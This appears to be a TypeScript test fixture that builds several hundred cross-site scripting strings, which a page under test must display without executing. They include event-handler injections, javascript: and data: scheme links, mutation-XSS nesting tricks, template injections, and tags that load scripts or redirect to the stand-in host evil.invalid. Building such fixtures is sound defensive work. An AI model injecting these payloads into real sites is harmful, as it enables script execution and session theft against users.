/** Words that a page must show and never act on. Each would open a dialog, or ask `evil.invalid` for something. */

const deed = 'alert(1)'
const host = '//evil.invalid/'

const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onscrollend',
]
const elements = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['video', `src=${host}v`],
  ['audio', `src=${host}a`],
  ['iframe', `src=${host}f`],
  ['object', `data=${host}o`],
  ['embed', `src=${host}e`],
  ['marquee', ''],
  ['select', 'autofocus'],
  ['a', 'href=x'],
  ['math', ''],
  ['x-y', 'tabindex=1 id=x'],
] as const

const handlers = elements.flatMap(([name, attributes]) =>
  events.flatMap((event) => [
    `<${name} ${attributes} ${event}=${deed}>`,
    `"><${name} ${attributes} ${event}="${deed}">`,
    `<${name}/${attributes}/${event}='${deed}'//`,
  ]),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:///etc/passwd#',
  'intent:',
].flatMap((scheme) => [
  `<a href="${scheme}${deed}">here</a>`,
  `<iframe src="${scheme}${deed}"></iframe>`,
  `[here](${scheme}${deed})`,
  `<form action="${scheme}${deed}"><button>here</button></form>`,
  `<svg><a xlink:href="${scheme}${deed}"><text>here</text></a></svg>`,
])

const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${deed}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  `<template><script>${deed}</script></template>`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<!--><script>${deed}</script>-->`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${deed}'/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>"></foreignObject></svg>`,
  `<math href="javascript:${deed}">CLICK</math>`,
  `<style>@import "${host}s.css";</style>`,
  `<div style="background:url(${host}b)">`,
  `<link rel=stylesheet href=${host}l>`,
  `<link rel=dns-prefetch href=${host}>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href=${host}>`,
  `<script src=${host}s.js></script>`,
  `<script>${deed}</script>`,
  `</script><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `</title><script>${deed}</script>`,
  `{{constructor.constructor('${deed}')()}}`,
  `\${${deed}}`,
  `<%= ${deed} %>`,
  `';${deed};//`,
  `"-${deed}-"`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;img src=x onerror=${deed}&#62;`,
  `\u003cimg src=x onerror=${deed}\u003e`,
  `＜script＞${deed}＜/script＞`,
  `<img src="x\u0000" onerror=${deed}>`,
  `<mark>${deed}</mark><b>bold</b>`,
  `\u202e<img src=x onerror=${deed}>`,
  `http:${host}page https:${host}page?x=<script> www.evil.invalid evil.invalid mailto:a@evil.invalid`,
  `![picture](http:${host}picture.png)`,
]

/** More than five hundred of them, always in the same order. */
export const markups: readonly string[] = [...new Set([...mutating, ...schemes, ...handlers])]

/** One that fits where names must be short, and on a disk. */
export const shortMarkup = `<img src=x onerror=${deed}>`
